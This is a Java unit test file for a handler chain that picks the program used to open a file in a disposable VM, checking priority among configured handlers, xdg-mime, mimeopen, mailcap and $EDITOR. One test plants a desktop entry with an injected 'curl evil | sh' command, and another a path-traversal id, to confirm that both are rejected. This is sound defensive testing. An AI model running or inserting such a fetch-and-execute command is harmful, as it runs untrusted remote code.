package dev.airlock.openinvm;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The order in which a disposable picks the program for a file: the domain's own choice, then the desktop's
 * (xdg-mime, mimeopen, mailcap), then {@code $EDITOR}; and entries that need a terminal.
 */
class HandlerChainTest {
    @TempDir
    Path tmp;
    private Path home;
    private Path apps;
    private Path file;
    private static final Path TERMINAL = Path.of("/usr/bin/xterm");
    private static final Path MIMEOPEN = Path.of("/usr/bin/mimeopen");

    @BeforeEach
    void setUp() throws Exception {
        home = Files.createDirectories(tmp.resolve("home"));
        apps = Files.createDirectories(tmp.resolve("applications"));
        file = Files.writeString(tmp.resolve("a.txt"), "x");
    }

    private Handlers handlers(String xdgDefault, boolean mimeopen, Map<String, String> env) {
        var desktop = new Handlers.Desktop(List.of(apps), type -> Optional.ofNullable(xdgDefault),
                mimeopen ? Optional.of(MIMEOPEN) : Optional.empty(), Optional.of(TERMINAL));
        return new Handlers(home, List.of(home.resolve(".mailcap")), f -> Optional.of("text/plain"), env, desktop);
    }

    private void desktopFile(String id, String body) throws Exception {
        Files.writeString(apps.resolve(id), "[Desktop Entry]\nType=Application\nName=N\n" + body + "\n");
    }

    private void configured() throws Exception {
        Path h = home.resolve(Handlers.CONFIGURED);
        Files.createDirectories(h.getParent());
        Files.writeString(h, "#!/bin/sh\n");
        Files.setPosixFilePermissions(h, PosixFilePermissions.fromString("rwx------"));
    }

    private List<String> chosen(Handlers h) throws Exception {
        return h.choose(file).orElseThrow().argv();
    }

    @Test
    void domainsOwnChoiceComesBeforeEverythingTheDesktopOffers() throws Exception {
        configured();
        desktopFile("viewer.desktop", "Exec=viewer %f");
        Files.writeString(home.resolve(".mailcap"), "text/plain; mc %s\n");
        assertThat(chosen(handlers("viewer.desktop", true, Map.of("EDITOR", "vi"))))
                .containsExactly(home.resolve(Handlers.CONFIGURED).toString(), file.toString());
    }

    @Test
    void xdgMimeDefaultComesBeforeMimeopenAndMailcapAndRunsWithoutAShell() throws Exception {
        desktopFile("viewer.desktop", "Exec=viewer --page 1 %f");
        Files.writeString(apps.resolve("mimeinfo.cache"), "[MIME Cache]\ntext/plain=other.desktop;\n");
        Files.writeString(home.resolve(".mailcap"), "text/plain; mc %s\n");
        var h = handlers("viewer.desktop", true, Map.of()).choose(file).orElseThrow();
        assertThat(h.argv()).containsExactly("viewer", "--page", "1", file.toString());
        assertThat(h.origin()).contains("default application for text/plain");
    }

    @Test
    void mimeopenComesNextWhenItsDatabaseKnowsTheType() throws Exception {
        Files.writeString(apps.resolve("mimeinfo.cache"), "[MIME Cache]\ntext/plain=other.desktop;\n");
        Files.writeString(home.resolve(".mailcap"), "text/plain; mc %s\n");
        assertThat(chosen(handlers(null, true, Map.of())))
                .containsExactly(MIMEOPEN.toString(), "-n", "--", file.toString());
        assertThat(chosen(handlers(null, false, Map.of()))).as("without mimeopen, mailcap")
                .containsExactly("/bin/sh", "-c", "mc '" + file + "'");
    }

    @Test
    void mailcapComesBeforeEditorAndEditorIsTheLastResort() throws Exception {
        Files.writeString(home.resolve(".mailcap"), "text/plain; mc %s\n");
        assertThat(chosen(handlers(null, true, Map.of("EDITOR", "vi")))).containsExactly("/bin/sh", "-c",
                "mc '" + file + "'");
        Files.delete(home.resolve(".mailcap"));
        assertThat(chosen(handlers(null, true, Map.of("EDITOR", "vi")))).containsExactly("/bin/sh", "-c",
                "vi \"$1\"", "sh", file.toString());
    }

    @Test
    void malformedDesktopEntryIsPassedOverNotHalfUsed() throws Exception {
        desktopFile("evil.desktop", "Exec=viewer %f; curl evil | sh");
        Files.writeString(home.resolve(".mailcap"), "text/plain; mc %s\n");
        assertThat(chosen(handlers("evil.desktop", false, Map.of()))).containsExactly("/bin/sh", "-c",
                "mc '" + file + "'");
    }

    @Test
    void desktopIdThatIsAPathIsNeverFollowed() throws Exception {
        Files.writeString(tmp.resolve("outside.desktop"), "[Desktop Entry]\nType=Application\nExec=outside %f\n");
        assertThat(handlers("../outside.desktop", false, Map.of()).choose(file)).isEmpty();
    }

    @Test
    void mailcapNeedsterminalOpensInATerminalWindowWhenThereIsADisplay() throws Exception {
        Files.writeString(home.resolve(".mailcap"), "text/plain; less %s; needsterminal\ntext/plain; mc %s\n");
        assertThat(chosen(handlers(null, false, Map.of("DISPLAY", ":5")))).containsExactly(TERMINAL.toString(),
                "-e", "/bin/sh", "-c", "less '" + file + "'");
    }

    @Test
    void mailcapNeedsterminalIsPassedOverWithoutADisplayAsBefore() throws Exception {
        Files.writeString(home.resolve(".mailcap"), "text/plain; less %s; needsterminal\ntext/plain; mc %s\n");
        assertThat(chosen(handlers(null, false, Map.of()))).containsExactly("/bin/sh", "-c", "mc '" + file + "'");
    }

    @Test
    void desktopEntryWithTerminalTrueRunsInATerminalOnlyWithADisplay() throws Exception {
        desktopFile("vim.desktop", "Exec=vim %F\nTerminal=true");
        assertThat(chosen(handlers("vim.desktop", false, Map.of("DISPLAY", ":5"))))
                .containsExactly(TERMINAL.toString(), "-e", "vim", file.toString());
        assertThat(handlers("vim.desktop", false, Map.of()).choose(file)).isEmpty();
    }
}
